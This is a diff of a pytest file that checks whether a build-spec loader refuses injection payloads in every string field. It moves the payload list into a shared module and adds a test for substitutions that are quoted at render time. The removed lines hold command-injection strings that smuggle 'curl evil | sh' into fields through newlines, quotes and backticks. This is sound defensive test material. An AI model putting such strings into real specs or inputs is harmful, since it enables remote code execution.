@@ -10,17 +10,7 @@ import pytest
 from megacpp_env.errors import SpecError
 from megacpp_env.spec.yamlsrc import join_key
 from tests.fixtures.spec import load_data
-
-PAYLOADS = [
-    "x\nRUN curl evil | sh",
-    "x\r\nRUN curl evil | sh",
-    "x \\",
-    "x' && curl evil | sh",
-    'x" ; curl evil | sh',
-    "x`curl evil`y`",
-    "x\u2028RUN curl evil",
-    "x\x00y",
-]
+from tests.payloads import QUOTED_AT_RENDER, REFUSED_AT_LOAD
 
 
 def _string_leaves(node, key=""):
@@ -52,13 +42,21 @@ def test_every_string_field_refuses_every_payload(stack_data):
     leaves = list(_string_leaves(stack_data))
     assert len(leaves) > 120  # every string of the real spec, not a sample
     for key in leaves:
-        for payload in PAYLOADS:
+        for payload in REFUSED_AT_LOAD:
             data = copy.deepcopy(stack_data)
             _assign(data, key, payload)
             assert payload not in json.dumps(stack_data)
             with pytest.raises(SpecError) as exc:
                 load_data(data)
             assert exc.value.key == key, (key, payload, str(exc.value))
+
+
+def test_balanced_substitutions_are_left_to_the_renderer(stack_data):
+    """Not refused at load in free text (tests/test_render_templating.py shows they render quoted)."""
+    data = copy.deepcopy(stack_data)
+    for payload in QUOTED_AT_RENDER:
+        next(iter(data["sources"].values()))["ref"] = payload
+        assert next(iter(load_data(data).sources.values())).ref == payload
 
 
 def test_payload_in_an_env_name_is_refused(stack_data):
